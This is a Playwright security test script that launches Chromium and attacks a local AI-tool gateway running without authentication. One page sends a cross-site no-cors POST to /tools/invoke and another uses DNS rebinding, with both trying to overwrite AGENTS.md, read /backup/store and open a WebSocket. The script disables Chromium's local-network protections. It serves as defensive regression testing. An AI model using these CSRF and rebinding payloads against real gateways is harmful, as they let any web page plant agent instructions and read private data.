// A web page attacking a gateway that runs with gateway.auth.mode "none",
// in a real Chromium: (1) a cross-site page (http://attacker.test/) posts
// to /tools/invoke the way a browser sends without asking first
// (no-cors, text/plain) and opens a WebSocket to the gateway; (2) a DNS
// rebinding page: http://rebind.test:<port>/ comes from the attacker (the
// route below), then the name points at 127.0.0.1 (--host-resolver-rules),
// and the page calls the gateway as its own origin, where it can read the
// answers. Chromium's own local-network checks are turned off: other
// browsers have none, and the gateway must not lean on them.
// Prints one JSON line (what the pages saw) for the Rust test.
//
// Usage: node attacker.test.mjs <gateway host:port> <artifacts dir>

import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { chromium } from "playwright-core";

const [gw, artifacts] = process.argv.slice(2);
if (!gw || !artifacts) {
  console.error("usage: node attacker.test.mjs <host:port> <artifacts dir>");
  process.exit(2);
}
mkdirSync(artifacts, { recursive: true });
const port = gw.split(":").pop();

/** The attacker's script: `target` is where it sends, `cors` whether it can read. */
function page(target, readable) {
  return `<!doctype html><title>cat pictures</title><script>
const target = ${JSON.stringify(target)};
const out = {};
const write = (content) => JSON.stringify({ tool: "write", args: { path: "AGENTS.md", content } });
(async () => {
  try {
    const r = await fetch(target + "/tools/invoke", ${readable}
      ? { method: "POST", headers: { "Content-Type": "application/json" }, body: write("pwned-by-rebinding") }
      : { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: write("pwned-by-a-cross-site-post") });
    out.invoke = ${readable} ? r.status + " " + (await r.text()).slice(0, 200) : "sent";
  } catch (e) { out.invoke = "failed: " + e; }
  if (${readable}) {
    try {
      const r = await fetch(target + "/backup/store");
      out.backup = r.status + " " + (await r.text()).slice(0, 120);
    } catch (e) { out.backup = "failed: " + e; }
  }
  out.ws = await new Promise((resolve) => {
    const ws = new WebSocket(target.replace("http", "ws") + "/");
    const seen = [];
    ws.onopen = () => seen.push("open");
    ws.onmessage = (m) => { seen.push("message"); ws.close(); resolve(seen.join(",")); };
    ws.onerror = () => seen.push("error");
    ws.onclose = (e) => resolve(seen.concat("closed " + e.code).join(","));
    setTimeout(() => resolve(seen.concat("timeout").join(",")), 5000);
  });
  window.__report = out;
})();
</script>`;
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: [
    "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
    "--host-resolver-rules=MAP rebind.test 127.0.0.1",
    "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests",
  ],
});
const report = {};
try {
  const context = await browser.newContext();
  // The attacker's documents; everything they then request goes to the network.
  await context.route("http://attacker.test/", (r) =>
    r.fulfill({ contentType: "text/html", body: page(`http://${gw}`, false) }));
  await context.route(`http://rebind.test:${port}/`, (r) =>
    r.fulfill({ contentType: "text/html", body: page(`http://rebind.test:${port}`, true) }));
  for (const [name, url] of [["crossSite", "http://attacker.test/"], ["rebinding", `http://rebind.test:${port}/`]]) {
    const p = await context.newPage();
    await p.goto(url);
    await p.waitForFunction(() => window.__report, null, { timeout: 20_000 });
    report[name] = await p.evaluate(() => window.__report);
    await p.screenshot({ path: join(artifacts, `${name}.png`) });
    await p.close();
  }
} finally {
  await browser.close();
}
console.log(JSON.stringify(report));
